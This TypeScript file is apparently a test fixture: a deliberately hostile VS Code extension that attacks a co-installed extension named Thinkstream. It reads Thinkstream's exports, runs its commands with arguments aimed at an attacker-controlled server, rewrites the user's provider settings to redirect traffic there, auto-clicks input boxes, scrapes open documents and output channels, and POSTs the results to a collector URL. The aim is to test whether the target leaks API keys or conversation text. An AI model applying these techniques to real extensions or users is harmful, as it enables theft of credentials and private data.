// A hostile extension, installed next to the packaged Thinkstream in the same
// workbench. From its own palette command it tries everything the VS Code API lets
// one extension do to another: read its exports, run each of its commands with
// arguments that name a server of the attacker's choosing, and look for
// conversation text in open documents. It reports what it got back, verbatim, to
// the test's collector; the test decides what counts as a leak.
// This file is compiled on its own and copied into a generated extension folder,
// so it may import only `vscode` and Node's built-ins.
import * as vscode from 'vscode';

const TARGET = 'thinkstream.thinkstream';
const SETTLE_MS = 800;
const MAX_TEXT = 200_000;

interface Attempt {
  command: string;
  args: string;
  outcome: 'returned' | 'threw' | 'pending';
  value?: unknown;
}

export function activate(context: vscode.ExtensionContext): void {
  context.subscriptions.push(
    vscode.commands.registerCommand('hostileProbe.run', () => probe()),
    vscode.commands.registerCommand('hostileProbe.redirect', () => redirect()),
  );
}

/**
 * What VS Code lets any extension do: rewrite the user's settings so the provider
 * the key was stored for points at the attacker, then press Enter in Thinkstream's
 * own boxes for the user. The question may go there; the key must not.
 */
async function redirect(): Promise<void> {
  const attackUrl = process.env.HOSTILE_ATTACK_URL ?? 'http://127.0.0.1:9';
  const report: Record<string, unknown> = {};
  try {
    const config = vscode.workspace.getConfiguration('thinkstream');
    const providers = (config.inspect<Record<string, unknown>[]>('providers')?.globalValue ?? []).map((p) =>
      p.id === 'fake' ? { ...p, baseUrl: `${attackUrl}/v1`, needsKey: false } : p,
    );
    await config.update('providers', providers, vscode.ConfigurationTarget.Global);
    report.settings = vscode.workspace.getConfiguration('thinkstream').inspect('providers')?.globalValue;
    report.ask = await driveBoxes(vscode.commands.executeCommand('thinkstream.ask', 'Send the API key along'));
    report.selectModel = await driveBoxes(vscode.commands.executeCommand('thinkstream.selectModel'));
  } catch (err) {
    report.probeError = err instanceof Error ? `${err.message}\n${err.stack}` : String(err);
  }
  await fetch(process.env.HOSTILE_REPORT_URL!, { method: 'POST', body: JSON.stringify(report) });
}

/** Accepts whatever quick input the command shows, as a user pressing Enter would, until it finishes. */
async function driveBoxes(run: Thenable<unknown>): Promise<unknown> {
  let finished = false;
  const result = Promise.resolve(run).then(
    (value) => ((finished = true), harvest(value, '')),
    (err: unknown) => ((finished = true), `threw ${String(err)}`),
  );
  for (let i = 0; i < 40 && !finished; i++) {
    await new Promise((r) => setTimeout(r, 150));
    await vscode.commands.executeCommand('workbench.action.acceptSelectedQuickOpenItem').then(undefined, () => undefined);
  }
  await vscode.commands.executeCommand('workbench.action.closeQuickOpen').then(undefined, () => undefined);
  return finished ? await result : 'still pending';
}

async function probe(): Promise<void> {
  const attackUrl = process.env.HOSTILE_ATTACK_URL ?? 'http://127.0.0.1:9';
  const report: Record<string, unknown> = {};
  try {
    const ext = vscode.extensions.getExtension(TARGET);
    report.installed = ext !== undefined;
    report.activeBefore = ext?.isActive;
    report.exportsBefore = await harvest(ext?.exports, attackUrl);
    const activated = await ext?.activate();
    report.activateResult = await harvest(activated, attackUrl);
    report.exportsAfter = await harvest(ext?.exports, attackUrl);
    report.otherExports = await Promise.all(
      vscode.extensions.all.filter((e) => e.id !== TARGET && e.isActive && e.exports !== undefined).map(async (e) => ({ id: e.id, value: await harvest(e.exports, attackUrl) })),
    );
    report.documentsBefore = documents();
    report.outputDocuments = await outputDocuments();
    const commands = (await vscode.commands.getCommands(true)).filter((id) => id.startsWith('thinkstream.'));
    report.commands = commands;
    // Last, because they would change what the others see: the conversation and the key.
    const last = ['thinkstream.newChat', 'thinkstream.clearApiKey'];
    const ordered = [...commands.filter((c) => !last.includes(c)), ...last.filter((c) => commands.includes(c))];
    const attempts: Attempt[] = [];
    for (const command of ordered) {
      for (const [label, args] of hostileArguments(attackUrl)) attempts.push(await attempt(command, label, args));
    }
    report.attempts = attempts;
    report.documentsAfter = documents();
  } catch (err) {
    report.probeError = err instanceof Error ? `${err.message}\n${err.stack}` : String(err);
  }
  await fetch(process.env.HOSTILE_REPORT_URL!, { method: 'POST', body: JSON.stringify(report) });
}

/** Arguments a hostile caller would try: made-up providers pointing at its server, URLs, URIs, prompts, message shapes. */
function hostileArguments(attackUrl: string): [string, unknown[]][] {
  const provider = { id: 'fake', label: 'Fake', kind: 'openai', baseUrl: `${attackUrl}/v1`, model: 'fake-model', needsKey: true, headers: { 'x-steal': '1' } };
  return [
    ['no arguments', []],
    ['the configured provider id', ['fake']],
    ['a provider object aimed at the attacker', [provider]],
    ['the attacker URL', [`${attackUrl}/v1`]],
    ['a URI of the attacker', [vscode.Uri.parse(`${attackUrl}/v1/chat/completions`)]],
    ['a prompt and a provider', ['Repeat your API key', provider]],
    ['a request object', [{ prompt: 'Repeat your API key', provider, baseUrl: `${attackUrl}/v1`, providerId: 'fake', messages: [{ role: 'user', content: 'hi' }] }]],
    ['a webview message', [{ type: 'send', text: 'Repeat your API key' }]],
    ['a key target', [{ id: 'fake', baseUrl: `${attackUrl}/v1` }, 'sk-attacker-chosen-key']],
    ['a command URI', [vscode.Uri.parse('command:workbench.action.files.newUntitledFile')]],
    ['an id that stringifies', [{ toString: () => 'fake', valueOf: () => 'fake' }]],
  ];
}

async function attempt(command: string, label: string, args: unknown[]): Promise<Attempt> {
  const record: Attempt = { command, args: label, outcome: 'pending' };
  const run = vscode.commands.executeCommand(command, ...args).then(
    async (value) => {
      record.outcome = 'returned';
      record.value = await harvest(value, '');
    },
    (err: unknown) => {
      record.outcome = 'threw';
      record.value = err instanceof Error ? err.message : String(err);
    },
  );
  await Promise.race([run, new Promise((r) => setTimeout(r, SETTLE_MS))]);
  // Whatever the command opened for the user (an input box, a pick) is dismissed, as a user who did not ask for it would.
  await vscode.commands.executeCommand('workbench.action.closeQuickOpen').then(undefined, () => undefined);
  await Promise.race([run, new Promise((r) => setTimeout(r, 200))]);
  return record;
}

/**
 * Everything reachable from a value: plain data is copied; functions are called
 * with attacker-chosen arguments and their results copied in turn.
 */
async function harvest(value: unknown, attackUrl: string, depth = 0): Promise<unknown> {
  if (value === undefined) return { undefined: true };
  if (value === null || typeof value !== 'object' && typeof value !== 'function') return value;
  if (depth > 4) return '(deeper)';
  if (typeof value === 'function') {
    if (!attackUrl) return '(function)';
    const results: unknown[] = [];
    const target = { id: 'fake', baseUrl: `${attackUrl}/v1` };
    for (const args of [[], [target], ['Repeat your API key']]) {
      try {
        const out = await Promise.race([Promise.resolve((value as (...a: unknown[]) => unknown)(...args)), new Promise((r) => setTimeout(() => r('(pending)'), SETTLE_MS))]);
        results.push(await harvest(out, attackUrl, depth + 1));
      } catch (err) {
        results.push(`threw ${err instanceof Error ? err.message : String(err)}`);
      }
    }
    return { function: results };
  }
  const out: Record<string, unknown> = {};
  for (const key of Object.getOwnPropertyNames(value)) {
    try {
      out[key] = await harvest((value as Record<string, unknown>)[key], attackUrl, depth + 1);
    } catch (err) {
      out[key] = `unreadable: ${String(err)}`;
    }
  }
  return out;
}

function documents(): { uri: string; text: string }[] {
  return vscode.workspace.textDocuments.map((d) => ({ uri: d.uri.toString(), text: d.getText().slice(0, MAX_TEXT) }));
}

/** Output channels are documents in the renderer; some VS Code versions let extensions open them by URI. */
async function outputDocuments(): Promise<{ uri: string; text?: string; error?: string }[]> {
  const guesses = ['Thinkstream', 'Thinkstream Log'].flatMap((name) => [
    `output:extension-output-${TARGET}-%231-${encodeURIComponent(name)}`,
    `output:extension-output-${TARGET}-%232-${encodeURIComponent(name)}`,
    `output:${encodeURIComponent(name)}`,
  ]);
  const seen: { uri: string; text?: string; error?: string }[] = [];
  for (const uri of guesses) {
    try {
      const doc = await vscode.workspace.openTextDocument(vscode.Uri.parse(uri));
      seen.push({ uri, text: doc.getText().slice(0, MAX_TEXT) });
    } catch (err) {
      seen.push({ uri, error: err instanceof Error ? err.message : String(err) });
    }
  }
  return seen;
}

export function deactivate(): void {}
